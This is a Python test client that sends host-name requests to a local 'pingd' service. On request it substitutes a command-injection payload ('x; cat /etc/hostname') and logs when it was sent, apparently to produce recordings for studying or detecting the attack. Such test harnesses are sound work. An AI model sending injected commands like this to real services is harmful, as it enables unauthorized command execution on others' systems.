"""Drives pingd for one recording: normal host checks, optionally the command-injection exploit.

usage: client.py PORT REQUESTS [EXPLOIT_AT EXPLOIT_TIME_FILE]
Sends REQUESTS normal requests (host names), one connection each, 0.15 s apart. With EXPLOIT_AT = i, the
i-th request (0-based) is the exploit instead; its wall-clock time (time.time(), taken just before the
connection) is written to EXPLOIT_TIME_FILE. Ends with QUIT, which stops the server.
"""
import socket
import sys
import time

HOSTS = ["localhost", "example.org", "db.internal", "cache-1", "api.example.com", "mail", "backup-2"]
EXPLOIT = "x; cat /etc/hostname"


def send(port, line):
    for _ in range(100):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            break
        except OSError:
            time.sleep(0.05)
    else:
        raise SystemExit("pingd does not answer")
    s.sendall((line + "\n").encode())
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    s.close()
    return data


def main():
    port, requests = int(sys.argv[1]), int(sys.argv[2])
    exploit_at = int(sys.argv[3]) if len(sys.argv) > 3 else -1
    send(port, "ready?")  # waits until the server listens (not counted as a request)
    for i in range(requests):
        time.sleep(0.15)
        if i == exploit_at:
            t = time.time()
            out = send(port, EXPLOIT)
            with open(sys.argv[4], "w") as f:
                f.write(repr(t) + "\n")
            assert b"checking x" in out, out
        else:
            send(port, HOSTS[i % len(HOSTS)])
    time.sleep(0.15)
    try:
        send(port, "QUIT")
    except ConnectionResetError:
        pass


main()
